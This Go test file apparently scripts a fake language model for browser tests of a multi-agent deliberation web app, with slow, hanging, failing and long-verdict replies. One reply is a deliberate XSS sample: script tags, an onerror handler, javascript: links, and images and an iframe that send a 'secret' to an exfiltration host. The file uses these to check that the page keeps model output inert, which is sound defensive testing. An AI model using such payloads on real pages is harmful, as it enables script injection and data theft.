package web_test

import (
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/magi-system/magi"
	"github.com/magi-system/magi/internal/fakellm"
)

// The scripted answers of the fake model the browser tests talk to: the
// question's marker ([slow], [hang], [fail], [long-verdict], [xss]) picks one.

// verdicts are the sages' votes in the scripted deliberations: one for,
// one conditional, one against — a CONDITIONAL majority.
var verdicts = map[magi.AgentID]string{
	magi.Melchior: "APPROVED", magi.Balthasar: "CONDITIONAL", magi.Casper: "REJECTED", magi.Solomon: "CONDITIONAL",
}

// slowText is the scripted answer of agent to a "[slow]" question: long
// enough to be read while it streams, ending with the verdict JSON.
func slowText(agent magi.AgentID) string {
	var b strings.Builder
	fmt.Fprintf(&b, "## %s considers\n\n", strings.ToUpper(string(agent)))
	for i := range 12 {
		fmt.Fprintf(&b, "Point %d of %s: the evidence is weighed with care. ", i+1, agent)
	}
	return b.String() + "\n\n" + verdictJSON(agent)
}

// longVerdictText is an answer whose verdict is long: a summary of several
// lines and four long conditions, the case a plate must show unclipped.
func longVerdictText(agent magi.AgentID) string {
	decision := "CONDITIONAL"
	if agent == magi.Casper {
		decision = "REJECTED"
	}
	var conds []string
	for i := range 4 {
		conds = append(conds, fmt.Sprintf("%q", fmt.Sprintf("condition %d of %s: the plan is reviewed by an independent panel every quarter, with its figures published before each review", i+1, agent)))
	}
	scores := ""
	if agent == magi.Solomon {
		scores = `, "scores": {"melchior": 70, "balthasar": 75, "casper": 60}`
	}
	return fmt.Sprintf("The first line of %s's answer.\n\nA second paragraph weighs the matter.\n\n```json\n"+
		`{"decision": %q, "confidence": 0.7, "summary": "%s: %s", "conditions": [%s]%s}`+"\n```",
		agent, decision, agent, strings.Repeat("the matter is weighed with care and the budget is kept in view; ", 3), strings.Join(conds, ", "), scores)
}

// xssText is an answer full of markup that must stay inert in the page.
func xssText(agent magi.AgentID, exfil string) string {
	return "Hostile output follows.\n\n<script>window.__pwned = 1; alert('script')</script>\n\n" +
		"<img src=x onerror=\"window.__pwned = 2; alert('img')\">\n\n" +
		"[x](javascript:alert(1)) and [y](data:text/html,<script>alert(1)</script>) and [ok](https://example.com/ok)\n\n" +
		"![](" + exfil + "/exfil) ![leak](" + exfil + "/exfil?q=secret)\n\n" +
		"<iframe src=\"" + exfil + "/exfil\"></iframe> <a href=\"javascript:alert(3)\">html link</a>\n\n" +
		verdictJSON(agent)
}

func verdictJSON(agent magi.AgentID) string {
	d := verdicts[agent]
	conds := "[]"
	if d == "CONDITIONAL" {
		conds = `["the budget is reviewed monthly"]`
	}
	scores := ""
	if agent == magi.Solomon {
		scores = `, "scores": {"melchior": 81, "balthasar": 64, "casper": 72}`
	}
	return fmt.Sprintf("```json\n{\"decision\": %q, \"confidence\": 0.8, \"summary\": \"%s has spoken.\", \"conditions\": %s%s}\n```",
		d, agent, conds, scores)
}

// script is the fake model: the question's marker picks the answer.
func script(exfil string) func(fakellm.Request) fakellm.Reply {
	return func(req fakellm.Request) fakellm.Reply {
		switch {
		case strings.Contains(req.User, "[slow]"):
			gap := 45 * time.Millisecond
			if req.Agent == magi.Solomon {
				gap = 5 * time.Millisecond
			}
			return fakellm.Reply{Text: slowText(req.Agent), TTFT: 150 * time.Millisecond, Gap: gap}
		case strings.Contains(req.User, "[trace]"):
			gap := 6 * time.Millisecond
			if req.Agent == magi.Solomon {
				gap = 3 * time.Millisecond
			}
			return fakellm.Reply{Text: slowText(req.Agent), TTFT: 120 * time.Millisecond, Gap: gap}
		case strings.Contains(req.User, "[hang]"):
			// streams a few words, then waits until it is cancelled
			return fakellm.Reply{Text: slowText(req.Agent), Hang: true, HangAfter: 6}
		case strings.Contains(req.User, "[fail]") && req.Agent == magi.Casper:
			// refused at once, not retried: the error names the fake's URL
			return fakellm.Reply{Status: http.StatusUnauthorized, Message: "invalid api key sk-test"}
		case strings.Contains(req.User, "[long-verdict]"):
			return fakellm.Reply{Text: longVerdictText(req.Agent), Gap: time.Millisecond}
		case strings.Contains(req.User, "[xss]"):
			return fakellm.Reply{Text: xssText(req.Agent, exfil), Gap: 2 * time.Millisecond}
		default:
			return fakellm.Reply{Text: slowText(req.Agent), Gap: time.Millisecond}
		}
	}
}
